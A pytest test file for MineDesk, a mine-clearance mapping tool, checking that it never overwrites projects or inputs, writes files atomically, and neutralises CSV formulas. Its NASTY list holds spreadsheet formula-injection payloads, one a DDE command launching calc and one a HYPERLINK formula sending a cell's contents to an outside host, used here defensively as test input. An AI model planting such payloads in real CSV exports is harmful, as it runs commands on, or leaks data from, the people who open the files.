"""What MineDesk writes: never over an input or a project, an existing file only with
--overwrite, every file of a set checked, whole files or none, a task order recorded if and
only if its PDF is there, CSV cells a spreadsheet will not run, and task orders of a size a
team can use (issue 11, items 1, 4, 13, 15 and 16)."""

from __future__ import annotations

import contextlib
import csv
import hashlib
import os
import sqlite3
import subprocess
from pathlib import Path

import numpy as np
import pytest
import shapely

from conftest import X0, Y0, square, tree_hash, write_layer

pytest.importorskip("PySide6.QtGui")
pypdf = pytest.importorskip("pypdf")


def one_line(err: str) -> bool:
    return err.startswith("minedesk: ") and err.strip().count("\n") == 0 and "Traceback" not in err


def digest(*paths) -> dict:
    return {str(p): hashlib.sha256(Path(p).read_bytes()).hexdigest() for p in paths}


def folder_state(folder) -> dict:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(Path(folder).iterdir()) if p.is_file()}


def task_orders(project_path) -> list:
    conn = sqlite3.connect(f"file:{project_path}?mode=ro", uri=True)
    try:
        return conn.execute("SELECT task_id, version FROM task_orders").fetchall()
    finally:
        conn.close()


def text_of(pdf) -> str:
    text = "\n".join(p.extract_text() for p in pypdf.PdfReader(str(pdf)).pages)
    return text.replace("\ufb01", "fi").replace("\ufb02", "fl")  # the font's ligatures


@pytest.fixture
def project(tmp_path, blocks):
    from minedesk.exchange import import_project

    path, _ = import_project(tmp_path / "p.gpkg", *blocks)
    return path


# --------------------------------------------------------------------------- item 1: never over an input or a project
@pytest.mark.parametrize("overwrite", [[], ["--overwrite"]])
def test_no_command_writes_over_the_project_even_when_asked(project, tmp_path, run_cli, overwrite):
    for name in ("link.pdf", "link.gpkg"):
        os.symlink(project, tmp_path / name)
    for name in ("hard.pdf", "hard.gpkg"):
        os.link(project, tmp_path / name)
    before = digest(project)
    for out in (project, tmp_path / "link.pdf", tmp_path / "hard.pdf", tmp_path / "link.gpkg", tmp_path / "hard.gpkg"):
        for args in (["task-order", project, "--hazard", "H-1", "-o", out],
                     ["report", project, "-o", out], ["report", project, "--csv", out],
                     ["export", project, "-o", out.with_suffix(".gpkg")],
                     ["completion-report", project, "--task", "T-1", "-o", out]):
            code, _, err = run_cli(*args, *overwrite)
            assert code == 2 and one_line(err), (args, err)
            assert "never writes over" in err
    assert digest(project) == before
    assert task_orders(project) == []
    # nor over any other project, nor its journal or lock
    other = tmp_path / "other.gpkg"
    other.write_bytes(project.read_bytes())
    (tmp_path / "other.gpkg.lock").write_bytes(b"")
    for out in (other, tmp_path / "other.gpkg.lock"):
        code, _, err = run_cli("report", project, "-o", out, *overwrite)
        assert code == 2 and "MineDesk project" in err
    assert digest(other)[str(other)] == digest(project)[str(project)]


def test_no_command_writes_over_a_file_of_its_input_shapefile(blocks, tmp_path, run_cli):
    hazards, releases = blocks
    files = sorted(tmp_path.glob("hazards.*")) + sorted(tmp_path.glob("releases.*"))
    before = digest(*files)
    for out in ("hazards.shp", "hazards.dbf", "hazards.prj", "releases.shx", "releases.cpg"):
        code, _, err = run_cli("task-order", hazards, "--releases", releases, "--hazard", "H-1",
                               "-o", tmp_path / out, "--overwrite")
        assert code == 2 and one_line(err) and "inputs" in err, err
        code, _, err = run_cli("import", hazards, "--releases", releases, "-o", tmp_path / out, "--overwrite")
        assert code == 2 and one_line(err), err
    assert digest(*files) == before


def test_an_existing_file_is_replaced_only_with_overwrite(project, tmp_path, run_cli):
    victim = tmp_path / "notes.csv"
    victim.write_bytes(b"someone's table")
    code, _, err = run_cli("report", project, "--csv", victim)
    assert code == 2 and one_line(err) and "--overwrite" in err
    assert victim.read_bytes() == b"someone's table"
    assert run_cli("report", project, "--csv", victim, "--overwrite")[0] == 0
    assert victim.read_text(encoding="utf-8").startswith("group,")
    pdf = tmp_path / "t.pdf"
    pdf.write_bytes(b"old")
    assert run_cli("task-order", project, "--hazard", "H-1", "-o", pdf)[0] == 2
    assert pdf.read_bytes() == b"old" and task_orders(project) == []
    assert run_cli("task-order", project, "--hazard", "H-1", "-o", pdf, "--overwrite")[0] == 0
    assert pdf.read_bytes()[:4] == b"%PDF"


def test_export_checks_every_file_it_would_write(project, tmp_path, run_cli):
    out = tmp_path / "out"
    out.mkdir()
    (out / "f.dbf").write_bytes(b"unrelated table")
    (out / "f_releases.prj").write_bytes(b"unrelated prj")
    before = folder_state(out)
    code, _, err = run_cli("export", project, "-o", out / "f.shp")
    assert code == 2 and one_line(err) and "already exists" in err
    assert folder_state(out) == before  # no f.shp, no f_releases.shp, nothing half-written
    code, printed, err = run_cli("export", project, "-o", out / "f.shp", "--overwrite")
    assert code == 0, err
    assert {p.name for p in out.iterdir()} == {f"f{s}" for s in (".shp", ".shx", ".dbf", ".prj", ".cpg")} | \
        {f"f_releases{s}" for s in (".shp", ".shx", ".dbf", ".prj", ".cpg")}
    assert run_cli("tally", out / "f.shp", "--releases", out / "f_releases.shp", "--json")[0] == 0


def test_output_into_a_missing_folder_or_onto_a_folder_is_one_line(project, blocks, tmp_path, run_cli):
    (tmp_path / "folder").mkdir()
    for out in (tmp_path / "missing" / "x.pdf", tmp_path / "folder"):
        for args in (["task-order", project, "--hazard", "H-1", "-o", out], ["report", project, "-o", out],
                     ["report", project, "--csv", out], ["export", project, "-o", Path(f"{out}.shp")
                                                         if out.name == "x.pdf" else out],
                     ["completion-report", project, "--task", "T-1", "-o", out],
                     ["import", blocks[0], "-o", out.with_suffix(".gpkg") if out.name == "x.pdf" else out]):
            code, _, err = run_cli(*args)
            assert code == 2 and one_line(err), (args, err)
    assert not (tmp_path / "missing").exists()


def test_import_to_anything_but_a_project_name_refuses_before_writing(blocks, tmp_path, run_cli):
    out = tmp_path / "new"
    out.mkdir()
    for name in ("x.geojson", "x.shp", "x"):
        code, _, err = run_cli("import", blocks[0], "-o", out / name)
        assert code == 2 and one_line(err) and ".gpkg" in err
    assert list(out.iterdir()) == []


def test_import_writes_a_temporary_file_and_renames_it(blocks, tmp_path, monkeypatch):
    from minedesk import outputs
    from minedesk.exchange import import_project

    seen = []
    real = os.replace
    monkeypatch.setattr(outputs.os, "replace", lambda a, b: (seen.append((Path(a).name, Path(b).name)), real(a, b)))
    import_project(tmp_path / "new.gpkg", *blocks)
    assert seen and seen[-1][1] == "new.gpkg" and seen[-1][0].startswith(".new.gpkg.")


# --------------------------------------------------------------------------- full disk: nothing half-written
@contextlib.contextmanager
def small_disk(folder: Path, size: str):
    if os.geteuid() != 0:
        pytest.skip("a small filesystem needs root to mount (tmpfs)")
    folder.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(folder)],
                      capture_output=True).returncode != 0:
        pytest.skip("cannot mount a tmpfs here")
    try:
        yield folder
    finally:
        subprocess.run(["umount", str(folder)], check=False)


def test_a_full_disk_leaves_no_partial_file_and_no_record(project, blocks, tmp_path, run_cli):
    with small_disk(tmp_path / "disk", "4k") as disk:  # one page: every output here needs more
        for args in (["task-order", project, "--hazard", "H-1", "-o", disk / "t.pdf"],
                     ["report", project, "-o", disk / "r.pdf", "--csv", disk / "r.csv"],
                     ["export", project, "-o", disk / "e.gpkg"], ["export", project, "-o", disk / "e.shp"],
                     ["export", project, "-o", disk / "e.geojson"],
                     ["import", blocks[0], "--releases", blocks[1], "-o", disk / "n.gpkg"]):
            code, _, err = run_cli(*args)
            assert code == 2 and one_line(err) and "cannot be written" in err, (args, err)
            assert list(disk.iterdir()) == [], (args, list(disk.iterdir()))
    assert task_orders(project) == []


# --------------------------------------------------------------------------- item 4: record and document together
def test_a_task_order_is_recorded_only_when_its_pdf_is_there(project, tmp_path, run_cli):
    for _ in range(2):
        code, _, err = run_cli("task-order", project, "--hazard", "H-1", "-o", tmp_path / "missing" / "t.pdf")
        assert code == 2 and one_line(err)
    assert task_orders(project) == []
    code, _, err = run_cli("task-order", project, "--hazard", "H-1", "-o", tmp_path / "t.pdf")
    assert code == 0 and len(task_orders(project)) == 1 and (tmp_path / "t.pdf").read_bytes()[:4] == b"%PDF"


def test_recording_fails_then_no_pdf_and_no_temporary_file(project, tmp_path, run_cli, monkeypatch):
    from minedesk.core.errors import InputError
    from minedesk.core.project import Project

    out = tmp_path / "out"
    out.mkdir()
    seen = []

    def refuse(self, command):
        seen.append([(p.name, p.read_bytes()[:4]) for p in out.iterdir()])  # what is there when recording
        raise InputError(project, "cannot record (simulated)")

    monkeypatch.setattr(Project, "execute", refuse)
    code, _, err = run_cli("task-order", project, "--hazard", "H-1", "-o", out / "t.pdf")
    assert code == 2 and "simulated" in err
    # the PDF was drawn whole to a temporary file before the order was recorded ...
    (((name, head),),) = seen
    assert name.startswith(".t.pdf.") and head == b"%PDF"
    # ... and went when recording failed
    assert list(out.iterdir()) == []


def test_rename_fails_after_recording_then_the_record_is_withdrawn(project, tmp_path, run_cli, monkeypatch):
    from minedesk import outputs

    def fail(a, b):
        raise OSError(28, "No space left on device", str(b))

    monkeypatch.setattr(outputs.os, "replace", fail)
    out = tmp_path / "out"
    out.mkdir()
    code, _, err = run_cli("task-order", project, "--hazard", "H-1", "-o", out / "t.pdf")
    assert code == 2 and one_line(err) and "No space left" in err
    assert list(out.iterdir()) == []
    assert task_orders(project) == []
    monkeypatch.undo()
    code, history, _ = run_cli("history", project)
    assert "do     Issue task order" in history and "undo   Issue task order" in history  # audited both ways


def test_rename_and_withdrawal_both_fail_then_one_line_says_what_is_recorded(project, tmp_path, run_cli, monkeypatch):
    from minedesk import outputs
    from minedesk.core.project import Project

    def fail(a, b):
        raise OSError(28, "No space left on device", str(b))

    def cannot(self, command):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(outputs.os, "replace", fail)
    monkeypatch.setattr(Project, "withdraw", cannot)
    code, _, err = run_cli("task-order", project, "--hazard", "H-1", "-o", tmp_path / "t.pdf")
    assert code == 2 and one_line(err)
    assert "stays recorded" in err and "--task T-" in err  # the operator knows, and how to get the PDF
    assert not (tmp_path / "t.pdf").exists() and not list(tmp_path.glob(".t.pdf.*"))


# --------------------------------------------------------------------------- item 14: one line, options that do not apply
@pytest.mark.parametrize("args, command", [
    (["tally"], "tally"),
    (["tally", "x.shp", "--bogus"], "tally"),
    (["check", "x.shp", "--area-tolerance", "abc"], "check"),
    (["task-order", "p.gpkg", "--paper", "a3", "-o", "x.pdf"], "task-order"),
    (["export", "p.gpkg"], "export"),
    (["release", "p.gpkg", "--hazard", "H", "--category", "destroyed", "--whole"], "release"),
    (["--no-such-option"], None),
])
def test_argparse_errors_are_one_line(run_cli, args, command):
    code, out, err = run_cli(*args)
    assert code == 2 and one_line(err), err
    assert "usage:" not in err and out == ""
    assert err.rstrip().endswith(f"see minedesk {command} --help" if command else "see minedesk --help")


@pytest.mark.parametrize("option", ["--crs", "--category", "--category-value", "--device", "--by", "--link"])
def test_an_option_given_only_double_dash_is_a_usage_error(blocks, run_cli, option):
    """Python 3.11's argparse strips '--' from `--crs=--` and hands the option an empty list."""
    hazards, releases = blocks
    code, out, err = run_cli("tally", hazards, "--releases", releases, f"{option}=--", "--json")
    assert code == 2 and one_line(err) and "Traceback" not in err, err
    assert option in err and err.rstrip().endswith("see minedesk tally --help") and out == ""


def test_options_that_do_not_apply_are_refused(project, blocks, tmp_path, run_cli):
    hazards, releases = blocks
    gj = write_layer(tmp_path / "h.geojson", [square(X0, Y0, 100)], {"HAZ_ID": ["G-1"]}, crs="EPSG:32638")
    for args in (["tally", project, "--releases", releases], ["tally", project, "--releases-layer", "x"],
                 ["tally", project, "--hazard-id", "HAZ_ID"], ["tally", project, "--category", "cleared"],
                 ["check", project, "--releases", releases], ["check", project, "--device", "AP=AP_FOUND"],
                 ["tally", project, "--link", "id"], ["tally", project, "--layer", "hazards"],
                 ["tally", hazards, "--layer", "hazards"], ["tally", gj, "--layer", "x"],
                 ["check", hazards, "--releases", releases, "--releases-layer", "x"],
                 ["import", hazards, "--layer", "hazards", "-o", tmp_path / "n.gpkg"],
                 ["task-order", project, "--releases", releases, "--hazard", "H-1", "-o", tmp_path / "t.pdf"],
                 ["task-order", hazards, "--layer", "x", "--hazard", "H-1", "-o", tmp_path / "t.pdf"]):
        code, _, err = run_cli(*args)
        assert code == 2 and one_line(err) and ("does not apply" in err or "do not apply" in err), (args, err)
    assert not (tmp_path / "n.gpkg").exists() and not (tmp_path / "t.pdf").exists()


# --------------------------------------------------------------------------- item 15: CSV cells a spreadsheet will not run
NASTY = ["=cmd|' /C calc'!A0", "@SUM(1+1)", '=HYPERLINK("http://x.example/?"&A1,"x")', "+1-2", "-2+3", "\tTAB",
         "\rCR"]


def test_csv_cell_rule():
    from minedesk.outputs import csv_cell

    for text in NASTY:
        assert csv_cell(text) == "'" + text
    for value in (-12.5, 3, "-12.5", "+7", "1e5", "Ağdam", "", None, "a=b"):
        assert csv_cell(value) == value


@pytest.fixture
def nasty_project(tmp_path):
    from minedesk.exchange import import_project

    n = len(NASTY)
    hazards = write_layer(tmp_path / "nasty.shp", [square(X0 + 200 * i, Y0, 100) for i in range(n)],
                          {"HAZ_ID": [f"H-{i}" for i in range(n)], "DISTRICT": NASTY, "NOTE": ["-12.5"] * n,
                           "DEPTH": np.full(n, -12.5)})
    path, _ = import_project(tmp_path / "nasty.gpkg", hazards)
    return path


def test_export_csv_neutralises_formulas_and_keeps_numbers(nasty_project, tmp_path, run_cli):
    assert run_cli("export", nasty_project, "-o", tmp_path / "x.csv")[0] == 0
    with open(tmp_path / "x.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    districts = [r["DISTRICT"] for r in rows]
    assert districts == ["'" + t for t in NASTY]
    assert {r["NOTE"] for r in rows} == {"-12.5"} and {float(r["DEPTH"]) for r in rows} == {-12.5}
    assert all(not r["HAZ_ID"].startswith("'") for r in rows)


def test_report_csv_neutralises_group_names(nasty_project, tmp_path, run_cli):
    assert run_cli("report", nasty_project, "--by", "DISTRICT", "--csv", tmp_path / "r.csv")[0] == 0
    with open(tmp_path / "r.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    names = {r[0] for r in rows[1:]}
    assert names == {"'" + t for t in NASTY} | {"All"}
    assert all(not c.startswith(("=", "+", "@", "\t", "\r")) for r in rows for c in r)
    assert float(rows[-1][2]) > 0  # numbers stay numbers


# --------------------------------------------------------------------------- item 16: task orders a team can use
def _wiggly(n: int) -> shapely.Polygon:
    t = np.linspace(0, 2 * np.pi, n, endpoint=False)
    r = 300 + 2 * np.sin(t * 97)
    return shapely.Polygon(np.column_stack([X0 + r * np.cos(t), Y0 + r * np.sin(t)]))


@pytest.fixture
def long_outline(tmp_path):
    from minedesk.exchange import import_project

    h = write_layer(tmp_path / "long.shp", [_wiggly(3000), square(X0 + 2000, Y0, 100)], {"HAZ_ID": ["LONG", "SMALL"]})
    path, _ = import_project(tmp_path / "long.gpkg", h)
    return path


def test_too_many_turning_points_are_refused_before_drawing(long_outline, tmp_path, run_cli, monkeypatch):
    from minedesk.core.taskorder import MAX_TURNING_POINTS
    from minedesk.report import layout

    assert MAX_TURNING_POINTS < 3000
    drawn = []
    monkeypatch.setattr(layout.Document, "paint", lambda *a, **k: drawn.append(1))
    code, _, err = run_cli("task-order", long_outline, "--hazard", "LONG", "-o", tmp_path / "t.pdf")
    assert code == 2 and one_line(err) and "3,000 turning points" in err and "--simplify" in err
    assert drawn == [] and not (tmp_path / "t.pdf").exists() and task_orders(long_outline) == []
    code, _, err = run_cli("task-order", long_outline, "--hazard", "LONG", "-o", tmp_path / "t.pdf", "--simplify", "0.001")
    assert code == 2 and "still lists" in err and "larger tolerance" in err
    for bad in ("0", "-1", "nan", "inf"):
        code, _, err = run_cli("task-order", long_outline, "--hazard", "LONG", "-o", tmp_path / "t.pdf", "--simplify", bad)
        assert code == 2 and one_line(err)
    assert task_orders(long_outline) == []


def test_simplified_for_the_document_only_and_the_document_says_so(long_outline, tmp_path, run_cli):
    from minedesk.exchange import open_source

    wkb_before = _geometry_wkb(long_outline)
    code, out, err = run_cli("task-order", long_outline, "--hazard", "LONG", "-o", tmp_path / "t.pdf", "--simplify", "5")
    assert code == 0, err
    text = " ".join(text_of(tmp_path / "t.pdf").split())
    assert "Outline simplified for this document only (tolerance 5 m" in text
    assert "3,000 turning points in the project" in text
    assert _geometry_wkb(long_outline) == wkb_before  # the project's geometry is untouched
    project = open_source(long_outline, readonly=True)
    try:
        from minedesk.core.taskorder import measure

        (h,) = measure(project.engine, project.engine.meter, [project.hazard_row("LONG")],
                       project.task_orders()[0], 5.0)
        assert h.simplification.before == 3000 and h.simplification.after == sum(len(r.points) for r in h.rings)
        assert h.simplification.after <= 500 and h.polygon_lonlat.is_valid
        assert h.area_m2 == pytest.approx(float(project.engine.area_ha[project.hazard_row("LONG")]) * 1e4)
    finally:
        project.store.close()


def _geometry_wkb(path) -> list:
    conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        return conn.execute("SELECT geom FROM hazards ORDER BY fid").fetchall()
    finally:
        conn.close()


def test_the_limit_is_one_rule_in_the_core():
    from minedesk.core.taskorder import turning_point_count

    assert turning_point_count(shapely.box(0, 0, 1, 1)) == 4
    with_repeat = shapely.Polygon([(0, 0), (1, 0), (1, 0), (1, 1), (0, 1)])
    assert turning_point_count(with_repeat) == 4
    donut = shapely.box(0, 0, 10, 10).difference(shapely.box(4, 4, 6, 6))
    assert turning_point_count(shapely.MultiPolygon([donut, shapely.box(20, 20, 21, 21)])) == 12


# --------------------------------------------------------------------------- the window's save paths
@pytest.fixture
def window(qtbot, tmp_path, project):
    from PySide6.QtCore import QSettings

    from minedesk.app.window import MainWindow

    w = MainWindow(QSettings(str(tmp_path / "settings.ini"), QSettings.Format.IniFormat))
    qtbot.addWidget(w)
    w.open_path(str(project), background=False)
    assert w.project is not None and not w.project.store.readonly
    yield w
    w.close()


def _task_dialog(window, ids=("H-1",)):
    from minedesk.app.paper import TaskOrderDialog

    window.select_ids(list(ids))
    window.task_order_action.trigger()
    dialog = window.task_order_dialog
    assert isinstance(dialog, TaskOrderDialog)
    return dialog


def test_the_window_never_saves_over_the_open_project_or_its_files(window, project, tmp_path, monkeypatch):
    from PySide6.QtWidgets import QFileDialog

    from minedesk.app.paper import SummaryDialog, completion_report

    os.link(project, tmp_path / "hard.pdf")
    before = digest(project)
    dialog = _task_dialog(window)
    for target in (project, tmp_path / "hard.pdf", tmp_path / "p.gpkg.lock"):
        assert not dialog.issue(str(target))
        assert "never writes over" in dialog.error_box.text()
        dialog.error_box.close()
    assert window.project.task_orders() == [] and digest(project) == before
    window.summary_action.trigger()
    summary = window.summary_dialog
    assert isinstance(summary, SummaryDialog)
    assert summary.save(str(project)) == [] and "never writes over" in summary.error_box.text()
    monkeypatch.setattr(QFileDialog, "getSaveFileName", lambda *a, **k: (str(project), ""))
    window.export_dialog()
    assert "never writes over" in window.error_box.text()
    assert dialog.issue(str(tmp_path / "t.pdf"))
    order = window.project.task_orders()[0]
    assert not completion_report(window, window.project, order.task_id, str(project))
    assert "never writes over" in window.error_box.text()


def test_the_window_records_a_task_order_only_with_its_pdf(window, project, tmp_path, monkeypatch):
    from minedesk import outputs

    dialog = _task_dialog(window)
    assert not dialog.issue(str(tmp_path / "missing" / "t.pdf"))
    assert "does not exist" in dialog.error_box.text()
    assert window.project.task_orders() == [] and task_orders(project) == []

    def fail(a, b):
        raise OSError(28, "No space left on device", str(b))

    monkeypatch.setattr(outputs.os, "replace", fail)
    assert not dialog.issue(str(tmp_path / "t.pdf"))
    assert "No space left" in dialog.error_box.text()
    assert window.project.task_orders() == [] and task_orders(project) == []
    assert window.project.redo_label is None  # nothing to redo: the order was never issued
    assert [p.name for p in tmp_path.iterdir() if p.suffix == ".pdf" or ".part" in p.name] == []
    monkeypatch.undo()
    assert dialog.issue(str(tmp_path / "t.pdf"))
    assert len(task_orders(project)) == 1 and (tmp_path / "t.pdf").read_bytes()[:4] == b"%PDF"


def test_the_window_asks_before_replacing_files_the_dialog_did_not_name(window, project, tmp_path, monkeypatch):
    from PySide6.QtWidgets import QFileDialog, QMessageBox

    (tmp_path / "e_releases.dbf").write_bytes(b"someone's table")
    (tmp_path / "week.csv").write_bytes(b"someone's sheet")
    monkeypatch.setattr(QFileDialog, "getSaveFileName", lambda *a, **k: (str(tmp_path / "e.shp"), ""))
    asked = []
    monkeypatch.setattr(QMessageBox, "question", lambda *a, **k: asked.append(a[2]) or QMessageBox.StandardButton.No)
    window.export_dialog()
    assert asked and "e_releases.dbf" in asked[0]
    assert not (tmp_path / "e.shp").exists() and (tmp_path / "e_releases.dbf").read_bytes() == b"someone's table"
    window.summary_action.trigger()
    assert window.summary_dialog.save(str(tmp_path / "week.pdf")) == []
    assert (tmp_path / "week.csv").read_bytes() == b"someone's sheet" and not (tmp_path / "week.pdf").exists()
    monkeypatch.setattr(QMessageBox, "question", lambda *a, **k: QMessageBox.StandardButton.Yes)
    window.export_dialog()
    assert (tmp_path / "e.shp").exists() and (tmp_path / "e_releases.dbf").read_bytes() != b"someone's table"


def test_the_window_asks_to_simplify_a_long_outline(qtbot, tmp_path, long_outline, monkeypatch):
    from PySide6.QtCore import QSettings
    from PySide6.QtWidgets import QInputDialog

    from minedesk.app.window import MainWindow

    w = MainWindow(QSettings(str(tmp_path / "settings.ini"), QSettings.Format.IniFormat))
    qtbot.addWidget(w)
    w.open_path(str(long_outline), background=False)
    dialog = _task_dialog(w, ["LONG"])
    monkeypatch.setattr(QInputDialog, "getDouble", lambda *a, **k: (1.0, False))  # the operator declines
    assert not dialog.issue(str(tmp_path / "t.pdf"))
    assert not (tmp_path / "t.pdf").exists() and task_orders(long_outline) == []
    questions = []
    monkeypatch.setattr(QInputDialog, "getDouble", lambda *a, **k: questions.append(a[2]) or (5.0, True))
    assert dialog.issue(str(tmp_path / "t.pdf"))
    assert "3,000 turning points" in questions[0]
    assert "tolerance 5 m" in " ".join(text_of(tmp_path / "t.pdf").split())
    w.close()


def test_the_refusal_is_said_in_the_window_s_language(window, project):
    from PySide6.QtWidgets import QApplication

    from minedesk.app.dialogs import refuse_protected
    from minedesk.app.main import install_language

    app = QApplication.instance()
    try:
        for language, words in (("az", "üzərinə heç vaxt yazmır"), ("ru", "никогда не записывает")):
            install_language(app, language)
            assert refuse_protected(window, [project], window.project)
            assert words in window.error_box.text()
            window.error_box.close()
    finally:
        install_language(app, "en")


def test_a_screenshot_never_writes_over_a_project_or_an_existing_picture(project, tmp_path, run_cli):
    other = tmp_path / "other.gpkg"
    other.write_bytes(project.read_bytes())
    renamed = tmp_path / "renamed.png"  # a project whatever its name
    renamed.write_bytes(project.read_bytes())
    picture = tmp_path / "old.png"
    picture.write_bytes(b"an old picture")
    before = digest(project, other, renamed, picture)
    for out in (project, other, renamed, picture, tmp_path / "missing" / "x.png"):
        code, _, err = run_cli("open", project, "--screenshot", out)
        assert code == 2 and one_line(err), err
    code, _, err = run_cli("open", project, "--screenshot", renamed, "--overwrite")
    assert code == 2 and "MineDesk project" in err
    assert digest(project, other, renamed, picture) == before


@pytest.mark.parametrize("args", [
    ("report", "{p}", "--csv", "{d}/c2.dbf", "--overwrite"),
    ("report", "{p}", "-o", "{d}/summary.csv", "--overwrite"),
    ("task-order", "{p}", "--hazard", "H-1", "-o", "{d}/c2.dbf", "--overwrite"),
    ("completion-report", "{p}", "--task", "T-1", "-o", "{d}/c2.dbf", "--overwrite"),
])
def test_a_document_is_never_written_under_another_kind_of_name(tmp_path, blocks, run_cli, args):
    """`--overwrite` replaces a file of the kind asked for, never a .dbf with a CSV or a PDF: a
    name is how every program knows what a file is."""
    from minedesk.exchange import import_project

    project, _ = import_project(tmp_path / "p.gpkg", *blocks)
    other = tmp_path / "c2.dbf"
    other.write_bytes(b"somebody's table")
    (tmp_path / "summary.csv").write_text("somebody's sheet")
    before = tree_hash(tmp_path)
    code, out, err = run_cli(*[a.format(p=project, d=tmp_path) for a in args])
    assert code == 2 and len(err.strip().splitlines()) == 1 and "end it with" in err, err
    assert tree_hash(tmp_path) == before
